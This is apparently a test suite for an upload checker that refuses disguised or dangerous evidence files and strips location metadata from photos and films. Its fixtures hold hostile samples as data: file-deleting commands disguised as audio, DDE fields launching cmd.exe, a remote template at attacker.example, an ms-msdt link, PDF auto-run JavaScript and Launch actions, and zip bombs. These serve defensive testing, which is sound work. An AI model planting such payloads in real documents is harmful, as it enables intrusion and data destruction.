import { Document, ImageRun, Packer, Paragraph, ExternalHyperlink, TextRun } from 'docx'
import { deflateRawSync } from 'node:zlib'
import sharp from 'sharp'
import writeExcel from 'write-excel-file/node'
import { describe, expect, it } from 'vitest'
import { EXTENSIONS } from '../../functions/src/domain/evidence/file-type'
import { takeOutPlaces } from '../../functions/src/domain/evidence/recording'
import { judge } from '../../functions/src/evidence/judge'
import { storedZip } from '../../scripts/local/stored-zip'
import {
  box,
  FILES,
  filmWith,
  officeParts,
  OTHER_FILES,
  packed,
  PAGES,
  pdfOf,
  pngOf,
  relationship,
  relationships,
} from '../support/files'

const WORD = 'word/document.xml'
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)])

/** What the judge says of a file of that name: a refusal's code, with what it found, or the type that is kept. */
const judged = async (name: string, file: Buffer): Promise<string> => {
  const answer = await judge(Buffer.from(file), name)
  if (answer.ok) return answer.value.type
  const { code, params } = answer.refusal
  return typeof params?.['what'] === 'string' ? `${code} ${params['what']}` : code
}

describe('a name', () => {
  it.each([
    ['说明.docx.hta', 'evidence.name-extension'],
    ['照片.jpg.exe', 'evidence.name-extension'],
    ['运行.bat', 'evidence.name-extension'],
    ['没有扩展名', 'evidence.name-extension'],
    ['照片.exe.jpg', 'evidence.name-two'],
    ['照片.jpg.jpg', 'evidence.name-two'],
    ['照片.pdf .jpg', 'evidence.name-two'],
    ['照\u202egpj.jpg', 'evidence.name-hidden'],
    ['照\u200b片.jpg', 'evidence.name-hidden'],
    ['照片.jpg.', 'evidence.name-ends'],
    ['照片.jpg ', 'evidence.name-ends'],
    ['.jpg', 'evidence.name-ends'],
    ['a/照片.jpg', 'evidence.name-signs'],
    ['照片.jpg:exe.jpg', 'evidence.name-signs'],
    ['照片.pdf', 'evidence.name-other'],
    ['照片.png', 'evidence.name-other'],
  ])('attack 8: [R16.1] %j passes a picture off as something else', async (name, code) => {
    expect(await judged(name, FILES.jpeg)).toBe(code)
  })

  it.each(['照片.jpg', 'IMG_0001.JPEG', '2026.11.26 现场照片（第2张）.v2.jpg', '湖口县-3.5号会议.纪要.jpg'])(
    'attack 8, allowed: [R16.1] %j is a name like any other',
    async (name) => {
      expect(await judged(name, FILES.jpeg)).toBe('image/jpeg')
    },
  )
})

describe('content that is not what the name says', () => {
  const id3 = Buffer.from('ID3\x03\0\0\0\0\0\0@echo off\r\ndel /q *.*\r\n')
  it.each<[string, string, Buffer]>([
    ['a .bat declared as sound', '录音.mp3', OTHER_FILES.commands],
    ['a .bat behind the first letters of a sound file', '录音.mp3', id3],
    ['a script that begins like a telephone’s recording', '录音.amr', Buffer.from('#!AMR\nrm -rf ~\n')],
    ['a sound file without sound', '录音.wav', Buffer.from('RIFF\x24\0\0\0WAVE@echo off')],
    ['a film without a film', '视频.mp4', Buffer.from('\0\0\0\x10ftypisom\0\0\0\0MZ programs')],
    ['HTML as PDF', '说明.pdf', OTHER_FILES.page],
    [
      'HTML behind the first letters of a PDF',
      '说明.pdf',
      Buffer.from('%PDF-1.7\n<script>alert(1)</script>'),
    ],
    [
      'a program behind the first letters of a picture',
      '照片.png',
      Buffer.concat([FILES.png.subarray(0, 20), OLE]),
    ],
    ['a drawing that acts', '照片.png', OTHER_FILES.drawing],
    ['a document of another kind', '说明.xlsx', FILES.docx],
  ])('attack 8: [R16.1] %s is refused', async (_what, name, file) => {
    expect(await judged(name, file)).toMatch(/^evidence\.(wrong-type|unreadable|name-other)$/)
  })

  it.each(Object.keys(FILES) as (keyof typeof FILES)[])(
    'attack 8, allowed: [R16.1] a real file of the kind is let in: %s',
    async (kind) => {
      const type = await judged(
        `材料.${{ jpeg: 'jpg', mp3Bare: 'mp3' }[kind as string] ?? kind}`,
        FILES[kind],
      )
      expect(Object.keys(EXTENSIONS)).toContain(type)
      // What no office computer shows is kept as what each shows.
      if (kind === 'heic') expect(type).toBe('image/jpeg')
    },
  )
})

const real = (): Promise<Buffer> =>
  Packer.toBuffer(
    new Document({
      sections: [
        {
          children: [
            new Paragraph({ children: [new TextRun('经核实，路灯已于 11 月 26 日修复。')] }),
            new Paragraph({
              children: [
                new ExternalHyperlink({
                  link: 'https://www.gov.cn/a?b=1&c=2',
                  children: [new TextRun('依据')],
                }),
              ],
            }),
            new Paragraph({
              children: [
                new ImageRun({ type: 'jpg', data: FILES.jpeg, transformation: { width: 8, height: 8 } }),
              ],
            }),
          ],
        },
      ],
    }),
  )

/** A zip of which nothing but one entry's local head and data is hidden: the list does not name it. */
const withHiddenEntry = (): Buffer => {
  const parts = officeParts('word')
  const all = storedZip({ ...parts, 'word/vbaProject.bin': OLE })
  const without = storedZip(parts)
  const listOf = (zip: Buffer): number => zip.readUInt32LE(zip.length - 6)
  const list = Buffer.from(without.subarray(listOf(without)))
  list.writeUInt32LE(listOf(all), list.length - 6)
  return Buffer.concat([all.subarray(0, listOf(all)), list])
}

/** The list calls the part a picture; its own head calls it a program. */
const withTwoNames = (): Buffer => {
  const zip = storedZip(officeParts('word', { 'word/media/image1.png': FILES.png }))
  const at = zip.indexOf('word/media/image1.png')
  zip.write('word/vbaProject.bin  ', at)
  return zip
}

/** Zeros that a deflated entry says it unpacks to: 200 MB in some 195 kB. */
const bomb = (declared = 200 * 1024 * 1024): Buffer => {
  const content = deflateRawSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 })
  const parts = officeParts('word', { 'word/media/image1.png': content })
  const zip = storedZip(parts)
  const local = zip.indexOf('word/media/image1.png') - 30
  const central = zip.lastIndexOf('word/media/image1.png') - 46
  zip.writeUInt16LE(8, local + 8)
  zip.writeUInt16LE(8, central + 10)
  zip.writeUInt32LE(declared, local + 22)
  zip.writeUInt32LE(declared, central + 24)
  return zip
}

const word = (parts: Record<string, string | Buffer>): Buffer => storedZip(officeParts('word', parts))
const sheet = (parts: Record<string, string | Buffer>): Buffer => storedZip(officeParts('xl', parts))
const rels = (...each: string[]): Record<string, string> => ({
  'word/_rels/document.xml.rels': relationships(...each),
})
const EXTERNAL = ' TargetMode="External"'
const body = (content: string): Record<string, string> => ({
  [WORD]: `<w:document xmlns:w="w"><w:body>${content}</w:body></w:document>`,
})
const contentTypes = (more: string): Record<string, string> => ({
  '[Content_Types].xml': officeParts('word')
    ['[Content_Types].xml']!.toString()
    .replace('</Types>', `${more}</Types>`),
})

describe('a Word or Excel file', () => {
  it.each<[string, string, () => Buffer]>([
    ['with macros', 'macros', () => word({ 'word/vbaProject.bin': OLE })],
    ['with macros called a picture', 'embedded', () => word({ 'word/media/image1.png': OLE })],
    ['with macros called words', 'embedded', () => word({ 'word/media/notes.dat': OLE })],
    [
      'with macros under another name, said in the list of contents',
      'macros',
      () =>
        word(
          contentTypes(
            '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
          ),
        ),
    ],
    [
      'with macros said in character references',
      'macros',
      () =>
        word(
          contentTypes(
            '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-office.&#118;b&#x61;Project"/>',
          ),
        ),
    ],
    ['with macros that the directory does not list', 'hidden', withHiddenEntry],
    ['with a part of two names', 'hidden', withTwoNames],
    [
      'with something in front of the zip',
      'hidden',
      () => Buffer.concat([word({}).subarray(0, 4), word({})]),
    ],
    ['with an embedded program', 'embedded', () => word({ 'word/embeddings/oleObject1.bin': OLE })],
    [
      'with a program called a picture',
      'embedded',
      () => word({ 'word/media/image1.png': OTHER_FILES.program }),
    ],
    ['with ActiveX', 'embedded', () => word({ 'word/activeX/activeX1.xml': '<ax:ocx/>' })],
    [
      'with an object from outside',
      'embedded',
      () => word(rels(relationship('oleObject', 'file:///x', EXTERNAL))),
    ],
    [
      'with a remote template',
      'external',
      () =>
        word({
          'word/_rels/settings.xml.rels': relationships(
            relationship('attachedTemplate', 'http://attacker.example/x.dotm', EXTERNAL),
          ),
        }),
    ],
    [
      'with a frame from outside',
      'external',
      () => word(rels(relationship('frame', 'http://x.example', EXTERNAL))),
    ],
    [
      'with a picture from outside',
      'external',
      () => word(rels(relationship('image', 'http://x.example/a.png', EXTERNAL))),
    ],
    [
      'with a picture from outside, said in character references',
      'external',
      () => word(rels(relationship('image', 'http://x.example/a.png', ' TargetMode="&#69;xternal"'))),
    ],
    [
      'with relationships that are read one way or another',
      'hidden',
      () => word(rels('<Relationship Id="a" Type="x/hyperlink" Target=">" TargetMode="Exter<b/>nal"/>')),
    ],
    [
      'with a link that runs',
      'external',
      () => word(rels(relationship('hyperlink', 'ms-msdt:/id PCWDiagnostic', EXTERNAL))),
    ],
    [
      'with a link into the county’s network',
      'external',
      () => word(rels(relationship('hyperlink', '\\\\10.0.0.1\\x', EXTERNAL))),
    ],
    ['with another document drawn in', 'external', () => word(rels(relationship('aFChunk', 'x.html')))],
    [
      'with a DDE field',
      'commands',
      () =>
        word(
          body(
            '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText>',
          ),
        ),
    ],
    [
      'with a DDE field in pieces',
      'commands',
      () =>
        word(
          body(
            '<w:fldChar w:fldCharType="begin"/><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>E<!-- --> cmd</w:instrText></w:r>',
          ),
        ),
    ],
    ['with a DDE field in one', 'commands', () => word(body('<w:fldSimple w:instr=" DDE cmd "/>'))],
    [
      'with a DDE field put together from numbers',
      'commands',
      () =>
        word(
          body(
            '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText> QUOTE 68 68 69 </w:instrText>',
          ),
        ),
    ],
    [
      'with DDE in a sheet',
      'external',
      () => sheet({ 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }),
    ],
    [
      'with DDE in a cell',
      'commands',
      () => sheet({ 'xl/worksheets/sheet1.xml': "<c><f>cmd|'/C calc'!A0</f></c>" }),
    ],
    ['with Excel 4 macros', 'macros', () => sheet({ 'xl/macrosheets/sheet1.xml': '<x/>' })],
    ['with entities', 'entities', () => word({ [WORD]: '<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>' })],
    [
      'with words in another encoding',
      'hidden',
      () => word({ [WORD]: Buffer.from('\ufeff<a/>', 'utf16le') }),
    ],
    ['that is a bomb of 195 kB', 'too-much', () => bomb()],
  ])('attack 8: [R16.1] %s is refused', async (_what, found, make) => {
    const file = make()
    const kind = file.includes('xl/workbook.xml') ? 'xlsx' : 'docx'
    expect(await judged(`情况说明.${kind}`, file)).toBe(`evidence.unsafe ${found}`)
  })

  it('attack 8: [R16.1] a bomb that calls itself small is not unpacked further than it says', async () => {
    const file = bomb(1000)
    expect(file.length).toBeLessThan(210_000)
    expect(await judged('情况说明.docx', file)).toBe('evidence.unreadable')
  })

  it('attack 8, allowed: [R16.1] a real document with a link and a picture is let in, and kept as it is', async () => {
    const file = await real()
    const answer = await judge(Buffer.from(file), '情况说明.docx')
    expect(answer).toMatchObject({ ok: true })
    expect(answer.ok && answer.value.bytes.equals(file)).toBe(true)
  })

  it.each<[string, () => Buffer]>([
    [
      'a page number',
      () => word(body('<w:fldSimple w:instr=" PAGE "/><w:instrText> TOC \\\\o "1-3" </w:instrText>')),
    ],
    [
      'words about hidden address bars',
      () => word(body('<w:t>hidden DDE | address! http://x.example</w:t>')),
    ],
    [
      'links to a page, a letter and a file beside it',
      () =>
        word(
          rels(
            relationship('hyperlink', 'http://www.hukou.gov.cn', EXTERNAL),
            relationship('hyperlink', 'mailto:a@x.example', EXTERNAL),
            relationship('hyperlink', '附件1.docx', EXTERNAL),
            relationship('styles', 'styles.xml'),
          ),
        ),
    ],
    ['a picture', () => word({ 'word/media/image1.png': FILES.png })],
  ])('attack 8, allowed: [R16.1] one with %s is let in', async (_what, make) => {
    expect(await judged('情况说明.docx', make())).toMatch(/wordprocessingml/)
  })

  it('attack 8, allowed: [R16.1] a real sheet, and one that only looks as if it spoke to a program', async () => {
    const rows = await writeExcel([[{ value: '路灯编号' }, { value: 12 }]]).toBuffer()
    expect(await judged('台账.xlsx', rows)).toMatch(/spreadsheetml/)
    const formula = '<c><f>IF(A1="a|b",Sheet2!A1,"")</f></c>'
    expect(await judged('台账.xlsx', sheet({ 'xl/worksheets/sheet1.xml': formula }))).toMatch(/spreadsheetml/)
  })
})

const catalogue = (more: string): string => `<</Type/Catalog/Pages 2 0 R${more}>>`
const pdf = (more: string, ...objects: (string | Buffer)[]): Buffer =>
  pdfOf([catalogue(more), ...PAGES, ...objects])
const inObjectStream = (object: string): Buffer => packed('/Type/ObjStm/N 1/First 4', `9 0 ${object}`)

describe('a PDF', () => {
  it.each<[string, string, () => Buffer]>([
    [
      'that runs JavaScript when opened',
      'script',
      () => pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
    ],
    ['that writes it another way', 'script', () => pdf('/OpenAction<</S/J#61vaScrip#74/JS(app.alert(1))>>')],
    [
      'that hides it in an object stream',
      'script',
      () => pdf('/OpenAction 9 0 R', inObjectStream('<</S/JavaScript/JS(x)>>')),
    ],
    [
      'that hides it in an object stream that does not say so',
      'script',
      () => pdf('/OpenAction 9 0 R', packed('/N 1/First 4', '9 0 <</S/JavaScript/JS(x)>>')),
    ],
    ['that starts a program', 'launch', () => pdf('/OpenAction<</S/Launch/F(cmd.exe)>>')],
    ['that opens another file', 'launch', () => pdf('/OpenAction<</S/GoToR/F(\\\\\\\\10.0.0.1\\\\x)>>')],
    [
      'with a form that sends data away',
      'launch',
      () => pdf('/OpenAction<</S/SubmitForm/F(http://x.example)>>'),
    ],
    [
      'with a file in it',
      'attachment',
      () => pdf('/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>', packed('/Type/EmbeddedFile', 'MZ')),
    ],
    [
      'that is encrypted',
      'encrypted',
      () => pdfOf([catalogue(''), ...PAGES], '/Encrypt<</Filter/Standard/V 2>>'),
    ],
    [
      'whose table of places is a bomb',
      'too-much',
      () => pdf('', packed('/Type/XRef/Size 4/W[1 2 1]', Buffer.alloc(64 * 1024 * 1024))),
    ],
    [
      'whose object stream is a bomb',
      'too-much',
      () =>
        pdf(
          '',
          packed(
            '/Type/ObjStm/N 1/First 4',
            Buffer.concat([Buffer.from('9 0 '), Buffer.alloc(64 * 1024 * 1024, 0x20)]),
          ),
        ),
    ],
  ])('attack 8: [R16.1] %s is refused', async (_what, found, make) => {
    expect(await judged('说明.pdf', make())).toBe(`evidence.unsafe ${found}`)
  })

  it.each<[string, () => Buffer]>([
    [
      'whose objects are packed twice',
      () =>
        pdf(
          '',
          inObjectStream('<</A 1>>')
            .toString('latin1')
            .replace('/FlateDecode', '[/ASCII85Decode /FlateDecode]'),
        ),
    ],
    ['without a page', () => pdfOf([catalogue(''), '<</Type/Pages/Kids[]/Count 0>>'])],
  ])('attack 8: [R16.1] one %s cannot be judged and is refused', async (_what, make) => {
    expect(await judged('说明.pdf', make())).toBe('evidence.unreadable')
  })

  it.each<[string, () => Buffer]>([
    ['with a link', () => pdf('/OpenAction[3 0 R/Fit]', '<</S/URI/URI(https://www.gov.cn)>>')],
    ['with packed objects', () => pdf('', inObjectStream('<</Title(JavaScript)>>'))],
    ['with a packed page', () => pdf('', packed('', '1 0 0 1 72 720 cm BT (Launch) Tj ET'))],
  ])('attack 8, allowed: [R16.1] one %s is let in', async (_what, make) => {
    expect(await judged('说明.pdf', make())).toBe('application/pdf')
  })
})

const HERE = {
  IFD0: { Make: 'TELEPHONE-OF-SOMEBODY' },
  IFD3: {
    GPSLatitudeRef: 'N',
    GPSLatitude: '29/1 44/1 0/1',
    GPSLongitudeRef: 'E',
    GPSLongitude: '116/1 14/1 0/1',
  },
}
const taken = sharp({ create: { width: 40, height: 20, channels: 3, background: '#803010' } })

describe('a picture', () => {
  it('attack 8: [R16.1] does not keep where it was taken, nor by what; upright it stays', async () => {
    const file = await taken.clone().jpeg().withExif(HERE).withMetadata({ orientation: 6 }).toBuffer()
    expect((await sharp(file).metadata()).exif?.includes('TELEPHONE')).toBe(true)
    const answer = await judge(Buffer.concat([file, Buffer.from('ftypmp42 a film behind it')]), '现场.jpg')
    if (!answer.ok) throw new Error(answer.refusal.code)
    const kept = await sharp(answer.value.bytes).metadata()
    expect(kept).toMatchObject({ width: 20, height: 40 })
    expect([kept.exif, kept.xmp, kept.iptc]).toEqual([undefined, undefined, undefined])
    expect(answer.value.bytes.includes('TELEPHONE')).toBe(false)
    expect(answer.value.bytes.includes('ftyp')).toBe(false)
  })

  it('attack 8: [R16.1] neither does a PNG', async () => {
    const file = await taken.clone().png().withExif(HERE).toBuffer()
    expect(file.includes('TELEPHONE')).toBe(true)
    const answer = await judge(file, '现场.png')
    expect(answer.ok && answer.value.bytes.includes('TELEPHONE')).toBe(false)
    expect(answer).toMatchObject({ ok: true, value: { type: 'image/png' } })
  })

  it('attack 8: [R16.1] of more pixels than anybody takes is not unpacked', async () => {
    expect(await judged('现场.png', pngOf(30_000, 30_000, 10))).toBe('evidence.too-many-pixels')
  })
})

describe('a film', () => {
  const place = '+29.7400+116.2400+020.000/'
  const apple = box('meta', box('ilst', Buffer.from(`data${place}`)))
  const android = box('udta', box('\xa9xyz', Buffer.from(`\0\x12\x15\xc7${place}`)))
  const old = box('udta', box('loci', Buffer.from('\0\0\0\0place of somebody')))

  it.each([
    ['an iPhone', 'mov', filmWith('qt  ', apple)],
    ['an Android telephone', 'mp4', filmWith('isom', android)],
    ['an old telephone', '3gp', filmWith('3gp4', old)],
  ])('attack 8: [R16.1] of %s does not keep where it was taken', async (_whose, extension, file) => {
    const answer = await judge(Buffer.from(file), `现场.${extension}`)
    if (!answer.ok) throw new Error(answer.refusal.code)
    const { bytes } = answer.value
    expect(bytes.length).toBe(file.length)
    expect(bytes.includes('29.7400')).toBe(false)
    expect(bytes.includes('somebody')).toBe(false)
    expect(bytes.subarray(-64).equals(file.subarray(-64))).toBe(true)
  })

  it('attack 8, allowed: [R16.1] without a place it is kept as it is', async () => {
    const answer = await judge(Buffer.from(FILES.mp4), '现场.mp4')
    expect(answer.ok && answer.value.bytes.equals(FILES.mp4)).toBe(true)
    expect(takeOutPlaces(Buffer.from(FILES.mp4))).toBe(0)
  })
})
